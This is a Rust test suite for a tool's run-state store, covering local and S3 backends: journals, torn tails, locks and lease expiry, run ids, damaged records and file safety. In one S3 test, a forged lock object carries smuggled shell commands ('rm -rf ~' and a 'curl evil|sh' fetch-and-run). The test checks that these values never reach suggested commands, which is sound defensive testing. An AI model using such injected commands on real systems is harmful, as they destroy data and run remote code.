//! The guarantees of [`StateStore`], checked against every implementation:
//! append and durability, torn tails, atomic records, lock exclusion, run
//! ids, damaged records named apart, documents and logs.

use super::*;
use crate::state::runs::RunKind;

/// Every implementation, freshly made: (what it is, the store, a way to
/// tear the tail of a run's journal as a crash mid-write would).
type Make = fn(&std::path::Path) -> Box<dyn StateStore>;

fn local(dir: &std::path::Path) -> Box<dyn StateStore> {
    Box::new(LocalStore::open(&dir.join("state")).unwrap())
}

/// A fresh prefix on the local S3 endpoint (moto's server, started by
/// `scripts/test`); never a skip: without it the test fails saying how.
#[cfg(feature = "aws")]
fn s3(_: &std::path::Path) -> Box<dyn StateStore> {
    let endpoint = std::env::var("PARE_TEST_S3_ENDPOINT").unwrap_or_else(|_| {
        panic!(
            "PARE_TEST_S3_ENDPOINT is not set: the state suite needs the local S3 endpoint.\n\
             Run the suite with scripts/test, or `scripts/moto start s3` and export\n\
             PARE_TEST_S3_ENDPOINT=<the URL it prints>"
        )
    });
    use std::sync::atomic::{AtomicU32, Ordering};
    static N: AtomicU32 = AtomicU32::new(0);
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    let prefix = format!(
        "unit-{}-{nanos}-{}/",
        std::process::id(),
        N.fetch_add(1, Ordering::Relaxed)
    );
    Box::new(super::s3::S3Store::for_tests(
        &endpoint,
        "pare-unit",
        &prefix,
    ))
}

#[cfg(not(feature = "aws"))]
const IMPLEMENTATIONS: &[(&str, Make)] = &[("local", local)];
#[cfg(feature = "aws")]
const IMPLEMENTATIONS: &[(&str, Make)] = &[("local", local), ("s3", s3)];

fn record(id: &str) -> RunRecord {
    RunRecord {
        id: id.into(),
        kind: RunKind::Apply,
        status: RunStatus::Running,
        started_at: "2026-11-27T17:49:01Z".into(),
        finished_at: None,
        who: "t@host".into(),
        ci: None,
        provider: "sandbox".into(),
        provider_spec: None,
        plan_path: "plan.yaml".into(),
        plan_sha256: "00".into(),
        plan_name: None,
        git_commit: None,
        lineage: None,
        approvals: vec![],
        resolves: None,
        completed: vec![],
        failed: vec![],
        skipped: vec![],
        undone: vec![],
        steps_done: 0,
        savings_planned_monthly_usd: 0.0,
        savings_monthly_usd: 0.0,
        renamed: Default::default(),
        left: vec![],
        request_key: None,
    }
}

fn holder(who: &str) -> Holder {
    Holder {
        who: who.into(),
        pid: 1,
        doing: "apply plan.yaml".into(),
        since: "2026-11-27T17:49:01Z".into(),
        ci_url: None,
        ..Holder::default()
    }
}

fn each(test: impl Fn(&str, &dyn StateStore)) {
    for (name, make) in IMPLEMENTATIONS {
        let dir = tempfile::tempdir().unwrap();
        let store = make(dir.path());
        test(name, store.as_ref());
    }
}

#[test]
fn journals_append_and_read_back_what_was_synced() {
    each(|name, store| {
        let id = RunId::parse("r20261127-174901").unwrap();
        let mut log = store.create_run(&record(&id.to_string())).unwrap();
        log.write(b"{\"record\":\"rec_skipped\",\"rec\":\"a\",\"why\":\"x\"}\n")
            .unwrap();
        log.sync().unwrap();
        log.write(b"{\"record\":\"rec_skipped\",\"rec\":\"b\",\"why\":\"y\"}\n")
            .unwrap();
        log.sync().unwrap();
        let records = (store as &dyn StateStore).journal(&id).unwrap();
        assert_eq!(records.len(), 2, "{name}");
        // A torn tail (a crash mid-write) is dropped, not an error, where
        // a crash can tear one: a local file. An S3 object is written whole
        // or not at all, so one that ends mid-line was not written by pare.
        log.write(b"{\"record\":\"rec_sk").unwrap();
        log.sync().unwrap();
        let read = (store as &dyn StateStore).journal(&id);
        if name == "s3" {
            assert!(matches!(read, Err(StateError::Damaged { .. })), "{name}");
        } else {
            assert_eq!(read.unwrap().len(), 2, "{name}");
        }
    });
}

#[test]
fn the_journal_breaks_on_its_first_write_error_and_stays_broken() {
    struct Failing;
    impl crate::durable::AppendLog for Failing {
        fn write(&mut self, _: &[u8]) -> std::io::Result<()> {
            Err(std::io::Error::other("disk full"))
        }
        fn sync(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    let j = Journal::new("j".into(), Box::new(Failing), 0);
    let r = Record::RecSkipped {
        rec: "a".into(),
        why: "x".into(),
    };
    let e = j.append(&r, true).unwrap_err();
    assert!(e.to_string().contains("disk full"), "{e}");
    assert!(j.commit().is_err(), "every later call fails with it");
}

#[test]
fn records_are_created_once_and_replaced_whole() {
    each(|name, store| {
        let mut r = record("r20261127-174901");
        drop(store.create_run(&r).unwrap());
        assert!(store.create_run(&r).is_err(), "{name}: an id is used once");
        r.status = RunStatus::Applied;
        store.save_run(&r).unwrap();
        let back = store.read_run(&RunId::parse(&r.id).unwrap()).unwrap();
        assert_eq!(back.status, RunStatus::Applied, "{name}");
        assert!(matches!(
            store.read_run(&RunId::parse("r20261127-174902").unwrap()),
            Err(StateError::UnknownRun(_))
        ));
    });
}

#[test]
fn the_lock_has_one_holder_and_says_who() {
    each(|name, store| {
        let held = store.lock(&holder("alice@box")).unwrap();
        match store.lock(&holder("bob@box")) {
            Err(e @ StateError::Locked { .. }) => {
                assert!(e.to_string().contains("alice@box"), "{name}: {e}");
            }
            other => panic!("{name}: {:?}", other.err()),
        }
        drop(held);
        assert!(
            store.lock(&holder("bob@box")).is_ok(),
            "{name}: released on drop"
        );
    });
}

#[test]
fn run_ids_stay_in_order_past_ten_a_second() {
    each(|name, store| {
        let store: &dyn StateStore = store;
        // SAFETY of the test: the pinned clock is read by new_run_id only.
        let mut ids = Vec::new();
        for _ in 0..12 {
            let id = store.new_run_id().unwrap();
            drop(store.create_run(&record(&id.to_string())).unwrap());
            ids.push(id);
        }
        let mut sorted = ids.clone();
        sorted.sort();
        assert_eq!(ids, sorted, "{name}");
        let h = store.history().unwrap();
        let newest: Vec<String> = ids.iter().rev().map(|i| i.to_string()).collect();
        let listed: Vec<String> = h.runs.iter().map(|r| r.id.clone()).collect();
        assert_eq!(listed, newest, "{name}: newest first, by number");
    });
}

#[test]
fn a_damaged_record_is_named_and_the_others_still_read() {
    let dir = tempfile::tempdir().unwrap();
    let store = LocalStore::open(&dir.path().join("state")).unwrap();
    drop(store.create_run(&record("r20261127-174901")).unwrap());
    drop(store.create_run(&record("r20261127-174902")).unwrap());
    std::fs::write(
        dir.path().join("state/runs/r20261127-174902/run.json"),
        "{ not json",
    )
    .unwrap();
    let h = (&store as &dyn StateStore).history().unwrap();
    assert_eq!(h.runs.len(), 1);
    assert_eq!(h.damaged.len(), 1);
    assert_eq!(h.damaged[0].0, "r20261127-174902");
}

#[test]
fn documents_and_logs_round_trip() {
    each(|name, store| {
        assert_eq!(store.read_doc("sandbox.yaml").unwrap(), None, "{name}");
        store.write_doc("sandbox.yaml", b"a: 1\n").unwrap();
        assert_eq!(store.read_doc("sandbox.yaml").unwrap().unwrap(), b"a: 1\n");
        let mut log = store.open_log("sandbox.log").unwrap();
        log.write(b"x\n").unwrap();
        log.sync().unwrap();
        assert_eq!(store.read_log("sandbox.log").unwrap().unwrap(), "x\n");
        store.remove_log("sandbox.log").unwrap();
        assert_eq!(store.read_log("sandbox.log").unwrap(), None);
        assert!(
            store.write_doc("../x", b"").is_err(),
            "{name}: plain names only"
        );
    });
}

#[cfg(unix)]
#[test]
fn the_local_state_is_private_and_never_followed_out() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    let store = LocalStore::open(&state).unwrap();
    let guard = store.lock(&holder("a@b")).unwrap();
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&state), 0o700);
    assert_eq!(mode(&state.join("lock")), 0o600);
    drop(guard);
    // A symlinked lock is not followed.
    let target = dir.path().join("elsewhere");
    std::fs::write(&target, "keep").unwrap();
    std::fs::remove_file(state.join("lock")).unwrap();
    std::os::unix::fs::symlink(&target, state.join("lock")).unwrap();
    assert!(store.lock(&holder("a@b")).is_err());
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep");
}

#[test]
fn an_intent_without_an_outcome_reads_as_unknown() {
    // A crash between a step's intent and its outcome: the journal reads
    // back, and the step's outcome is unknown (recovery reads the cloud).
    each(|name, store| {
        let id = RunId::parse("r20261127-174901").unwrap();
        let log = store.create_run(&record(&id.to_string())).unwrap();
        let j = Journal::new(store.journal_name(&id), log, 0);
        let op = crate::vocabulary::Op::StartInstance {
            instance: crate::vocabulary::Ref::id("i-0a1b2c3d"),
        };
        for (seq, done) in [(j.next_seq(), true), (j.next_seq(), false)] {
            j.append(
                &Record::Intent {
                    seq,
                    rec: "a".into(),
                    step: seq as usize - 1,
                    op: Box::new(op.clone()),
                    inverse: Box::new(crate::vocabulary::Inverse::Nothing { why: "x".into() }),
                    before: None,
                    at: "2026-11-27T17:49:01Z".into(),
                    undoes: None,
                },
                true,
            )
            .unwrap();
            if done {
                j.append(
                    &Record::Outcome {
                        seq,
                        ok: true,
                        created: None,
                        error: None,
                        attempts: 1,
                        duration_ms: 1,
                        at: "2026-11-27T17:49:02Z".into(),
                    },
                    true,
                )
                .unwrap();
            }
        }
        drop(j);
        let records = (store as &dyn StateStore).journal(&id).unwrap();
        let steps = crate::state::journal::steps(&records);
        assert_eq!(steps.len(), 2, "{name}");
        assert!(matches!(steps[0].outcome, Some((true, _))), "{name}");
        assert!(steps[1].outcome.is_none(), "{name}: unknown, not failed");
        assert_eq!(crate::state::journal::last_seq(&records), 2);
    });
}

#[test]
fn a_tally_counts_what_completed_failed_and_never_started_as_records_word_them() {
    let intent = |seq: u64, rec: &str, step: usize, undoes: Option<u64>| Record::Intent {
        seq,
        rec: rec.into(),
        step,
        op: Box::new(crate::vocabulary::Op::StartInstance {
            instance: crate::vocabulary::Ref::id("i-0a1b2c3d"),
        }),
        inverse: Box::new(crate::vocabulary::Inverse::Nothing { why: "x".into() }),
        before: None,
        at: "2026-11-27T17:49:01Z".into(),
        undoes,
    };
    let outcome = |seq: u64, ok: bool| Record::Outcome {
        seq,
        ok,
        created: None,
        error: None,
        attempts: 1,
        duration_ms: 1,
        at: "2026-11-27T17:49:02Z".into(),
    };
    let done = |rec: &str, ok: bool, error: Option<&str>| Record::RecDone {
        rec: rec.into(),
        ok,
        resource: None,
        after: None,
        error: error.map(Into::into),
    };
    let records = [
        intent(1, "a", 0, None),
        outcome(1, true),
        done("a", true, None),
        intent(2, "b", 0, None),
        outcome(2, true),
        intent(3, "b", 1, None),
        outcome(3, false),
        done("b", false, Some("InternalError: boom")),
        Record::RecSkipped {
            rec: "c".into(),
            why: "upstream failed: b".into(),
        },
        // The automatic rollback's undo of `a`, then a kill.
        intent(4, "a", 0, Some(1)),
    ];
    let t = crate::state::journal::tally(&records);
    assert_eq!(t.completed, ["a"]);
    assert_eq!(t.failed, ["b: step 2: InternalError: boom"]);
    assert_eq!(t.skipped, ["c: upstream failed: b"]);
    assert_eq!(t.steps_done, 2);
}

#[cfg(feature = "aws")]
mod s3_only {
    use super::*;
    use crate::state::s3::S3Store;

    fn pair() -> (S3Store, S3Store) {
        let endpoint = std::env::var("PARE_TEST_S3_ENDPOINT")
            .expect("PARE_TEST_S3_ENDPOINT: run the suite with scripts/test");
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos();
        let prefix = format!("pair-{}-{nanos}/", std::process::id());
        (
            S3Store::for_tests(&endpoint, "pare-unit", &prefix),
            S3Store::for_tests(&endpoint, "pare-unit", &prefix),
        )
    }

    /// Runner A holds the lock and has made a run with one record journaled.
    fn a_run_under_way(a: &S3Store) -> (Box<dyn LockGuard>, Box<dyn crate::durable::AppendLog>) {
        let held = a.lock(&holder("alice@runner-1")).unwrap();
        let mut log = a.create_run(&record("r20261127-174901")).unwrap();
        log.write(b"{\"record\":\"rec_skipped\",\"rec\":\"a\",\"why\":\"x\"}\n")
            .unwrap();
        log.sync().unwrap();
        (held, log)
    }

    #[test]
    fn another_machine_reads_the_runs_and_is_refused_the_lock_naming_its_id() {
        let (a, b) = pair();
        let (held, log) = a_run_under_way(&a);
        let b: &dyn StateStore = &b;
        let h = b.history().unwrap();
        assert_eq!(h.runs.len(), 1);
        assert_eq!(
            b.journal(&RunId::parse("r20261127-174901").unwrap())
                .unwrap()
                .len(),
            1
        );
        let holder = b.lock_holder().expect("the lock says who holds it");
        assert_eq!(
            holder.run.as_deref(),
            Some("r20261127-174901"),
            "the lock names the run"
        );
        let id = holder.lock_id.clone().unwrap();
        match b.lock(&super::holder("bob@runner-2")) {
            Err(e @ StateError::Locked { .. }) => {
                let text = format!(
                    "{e} {:?}",
                    miette::Diagnostic::help(&e).map(|h| h.to_string())
                );
                assert!(
                    text.contains("alice@runner-1") && text.contains(&id),
                    "{text}"
                );
                assert!(
                    text.contains(&format!("pare unlock {id} --force")),
                    "a live lock needs --force: {text}"
                );
            }
            other => panic!("{:?}", other.err()),
        }
        // A live lock is not removed without --force, nor by another id.
        assert!(matches!(
            b.unlock(&id, false),
            Err(StateError::UnlockRefused { .. })
        ));
        assert!(matches!(
            b.unlock("l-0000", true),
            Err(StateError::UnlockRefused { .. })
        ));
        drop(log);
        drop(held);
        assert_eq!(b.lock_holder(), None, "released with If-Match on drop");
        assert!(
            b.unlock(&id, false).unwrap().is_none(),
            "nothing left to unlock"
        );
    }

    #[test]
    fn a_run_whose_lock_was_taken_writes_no_further_intent() {
        let (a, b) = pair();
        let (held, mut log) = a_run_under_way(&a);
        let id = b.lock_holder().unwrap().lock_id.unwrap();
        b.unlock(&id, true).unwrap().expect("it was locked");
        // The next heartbeat (every quarter of the lease, 15 s by default)
        // finds the lock gone; renew now rather than wait for it.
        let beat = a.held_for_tests().unwrap();
        beat.renew_for_tests();
        log.write(b"{\"record\":\"rec_skipped\",\"rec\":\"b\",\"why\":\"y\"}\n")
            .unwrap();
        let e = log.sync().unwrap_err();
        assert!(e.to_string().contains("taken by another run"), "{e}");
        // Nor its record, nor the sandbox account: another run may own them now.
        assert!(a.save_run(&record("r20261127-174901")).is_err());
        assert!(a.write_doc("sandbox.yaml", b"x").is_err());
        let b: &dyn StateStore = &b;
        assert_eq!(
            b.journal(&RunId::parse("r20261127-174901").unwrap())
                .unwrap()
                .len(),
            1,
            "nothing written once the lock is lost"
        );
        drop(held);
    }

    #[test]
    fn a_journal_with_a_hole_is_damaged_and_a_missing_tail_is_not() {
        let (a, _) = pair();
        let id = RunId::parse("r20261127-174901").unwrap();
        let mut log = a.create_run(&record(&id.to_string())).unwrap();
        for rec in ["a", "b", "c"] {
            log.write(
                format!("{{\"record\":\"rec_skipped\",\"rec\":\"{rec}\",\"why\":\"x\"}}\n")
                    .as_bytes(),
            )
            .unwrap();
            log.sync().unwrap();
        }
        let store: &dyn StateStore = &a;
        assert_eq!(store.journal(&id).unwrap().len(), 3);
        a.tamper_for_tests(&format!("runs/{id}/journal/0000000003"), None);
        assert_eq!(
            store.journal(&id).unwrap().len(),
            2,
            "a missing tail is a torn tail"
        );
        a.tamper_for_tests(
            &format!("runs/{id}/journal/0000000003"),
            Some(b"{\"record\":\"rec_skipped\",\"rec\":\"c\",\"why\":\"x\"}\n"),
        );
        a.tamper_for_tests(&format!("runs/{id}/journal/0000000002"), None);
        match store.journal(&id) {
            Err(StateError::Damaged { message, .. }) => {
                assert!(message.contains("0000000002"), "{message}")
            }
            other => panic!("a hole must not be read past: {other:?}"),
        }
    }

    #[test]
    fn a_finished_run_whose_journal_lost_its_end_is_damaged() {
        let (a, _) = pair();
        let id = RunId::parse("r20261127-174901").unwrap();
        let mut r = record(&id.to_string());
        let mut log = a.create_run(&r).unwrap();
        for seq in [1, 2] {
            log.write(format!("{{\"record\":\"outcome\",\"seq\":{seq},\"ok\":true,\"attempts\":1,\"duration_ms\":1,\"at\":\"t\"}}\n").as_bytes())
                .unwrap();
            log.sync().unwrap();
        }
        r.status = RunStatus::Applied;
        r.steps_done = 2;
        a.save_run(&r).unwrap();
        let store: &dyn StateStore = &a;
        assert_eq!(store.journal(&id).unwrap().len(), 2);
        a.tamper_for_tests(&format!("runs/{id}/journal/0000000002"), None);
        match store.journal(&id) {
            Err(StateError::Damaged { message, .. }) => {
                assert!(
                    message.contains("end of the journal is missing"),
                    "{message}"
                )
            }
            other => panic!("a finished run's short journal must not be trusted: {other:?}"),
        }
        // An object that ends mid-line was not written by pare either.
        a.tamper_for_tests(
            &format!("runs/{id}/journal/0000000002"),
            Some(b"{\"record\":\"outc"),
        );
        assert!(matches!(
            store.journal(&id),
            Err(StateError::Damaged { .. })
        ));
    }

    #[test]
    fn a_lock_object_pare_did_not_write_is_named_by_its_etag_and_only_forced_away() {
        let (a, b) = pair();
        a.tamper_for_tests(
            "lock",
            Some(br#"{"who":"x","pid":1,"doing":"d","since":"s","lock_id":"l-1; rm -rf ~","run":"r1; curl evil|sh","heartbeat":"2026-11-27T17:49:01Z","lease_s":60}"#),
        );
        let h = b.lock_holder().unwrap();
        let id = h.lock_id.clone().unwrap();
        assert!(
            id.starts_with("l-") && id.len() == 18 && !id.contains(' '),
            "{id}"
        );
        assert_eq!(h.run, None, "nothing from it reaches a suggested command");
        assert!(matches!(
            b.lock(&holder("bob")),
            Err(StateError::Locked { .. })
        ));
        assert!(matches!(
            b.unlock(&id, false),
            Err(StateError::UnlockRefused { .. })
        ));
        assert!(b.unlock(&id, true).unwrap().is_some());
        assert!(b.lock(&holder("bob")).is_ok());
    }

    #[test]
    fn a_damaged_entry_of_the_index_is_named_and_the_others_still_read() {
        let (a, _) = pair();
        drop(a.create_run(&record("r20261127-174901")).unwrap());
        drop(a.create_run(&record("r20261127-174902")).unwrap());
        a.damage_for_tests("r20261127-174902");
        let h = (&a as &dyn StateStore).history().unwrap();
        assert_eq!(h.runs.len(), 1);
        assert_eq!(h.damaged.len(), 1);
        assert_eq!(h.damaged[0].0, "r20261127-174902");
    }

    #[test]
    fn a_lock_expires_once_its_holder_stops_renewing_it_for_longer_than_its_lease() {
        let mut h = holder("a");
        h.heartbeat = Some("2026-11-27T17:49:01Z".into());
        h.lease_s = Some(60);
        let at = |s: &str| crate::clock::parse_rfc3339(s).unwrap();
        assert!(!h.expired(at("2026-11-27T17:50:01Z")));
        assert!(h.expired(at("2026-11-27T17:50:02Z")));
        h.heartbeat = Some("garbage".into());
        assert!(
            h.expired(at("2026-11-27T17:50:02Z")),
            "an unreadable time is not live"
        );
        h.lease_s = None;
        assert!(
            !h.expired(at("2030-01-01T00:00:00Z")),
            "a local lock never expires"
        );
    }
}
